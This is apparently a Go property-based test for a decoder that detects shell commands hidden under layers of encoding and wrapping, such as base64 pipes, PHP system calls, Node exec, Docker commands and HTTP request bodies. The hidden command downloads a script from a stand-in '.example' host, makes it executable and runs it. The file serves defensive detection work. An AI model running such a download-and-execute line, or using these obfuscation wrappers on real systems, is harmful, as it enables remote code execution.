package decode

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// wrapping is a way to wrap a command, and what the result may be wrapped in again: a line is one that a shell reads.
type wrapping struct {
	name string
	// takesLine and givesLine say that it wraps a command line, and that it yields one; the others take and yield text.
	takesLine, givesLine bool
	wrap                 func(string) string
}

func quoted(s string) string {
	b, _ := json.Marshal(s) // A string can always be written.
	return string(b)
}

var wrappings = []wrapping{
	{"sh -c", true, true, func(s string) string { return "sh -c " + quote(s) }},
	{"nohup bash -c", true, true, func(s string) string { return "nohup /bin/bash -c " + quote(s) + " &" }},
	{"echo to sh", true, true, func(s string) string { return "echo " + b64(s) + " | base64 -d | sh" }},
	{"braces", true, true, func(s string) string { return "bash -c {echo," + b64(s) + "}|{base64,-d}|{bash,-i}" }},
	{"variable", true, true, func(s string) string { return "X=" + b64(s) + ";echo $X|base64 --decode|bash" }},
	{"base64", false, false, b64},
	{"hex", false, false, func(s string) string { return hex.EncodeToString([]byte(s)) }},
	{"gzip in base64", false, false, func(s string) string { return b64(zipped(s)) }},
	{"json", false, false, func(s string) string { return `{"a":{"b":[1,` + quoted(s) + `]}}` }},
	{"xml", false, false, func(s string) string { return "<a><b>" + html.EscapeString(s) + "</b></a>" }},
	{"js", true, false, func(s string) string { return "require('child_process').exec(" + quoted(s) + ")" }},
	{"php", true, false, func(s string) string { return "<?php system(base64_decode('" + b64(s) + "')); ?>" }},
	{"docker", true, false, func(s string) string { return `{"Image":"alpine","Cmd":["sh","-c",` + quoted(s) + `]}` }},
	{"form", false, false, func(s string) string { return post("application/x-www-form-urlencoded", "x=1&cmd="+url.QueryEscape(s)) }},
	{"query", false, false, func(s string) string { return "GET /?cmd=" + url.QueryEscape(s) + " HTTP/1.1\r\n\r\n" }},
	{"multipart", false, false, func(s string) string {
		return post("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n"+s+"\r\n--XX--\r\n")
	}},
}

// TestWrappedAtRandom: what is wrapped in a few layers, in any order that makes sense, is found again.
func TestWrappedAtRandom(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		host := rapid.StringMatching(`[a-z]{3,10}\.example`).Draw(t, "host")
		command := fmt.Sprintf("cd /tmp; wget http://%s/x.sh; chmod 777 x.sh; ./x.sh", host)
		in, line, names := command, true, []string{}
		for range rapid.IntRange(1, 4).Draw(t, "layers") {
			w := rapid.SampledFrom(wrappings).Draw(t, "wrapping")
			if w.takesLine && !line || strings.HasPrefix(in, "POST ") || strings.HasPrefix(in, "GET ") {
				continue // A request is not wrapped again.
			}
			in, line, names = w.wrap(in), w.givesLine, append(names, w.name)
		}
		tr := Decode([]byte(in), Options{MaxDepth: 20})
		for _, n := range tr.Nodes {
			if bytes.Contains(n.Bytes, []byte(command)) && n.Runs {
				return
			}
		}
		t.Fatalf("%v: %q\n%s", names, in, show(tr))
	})
}
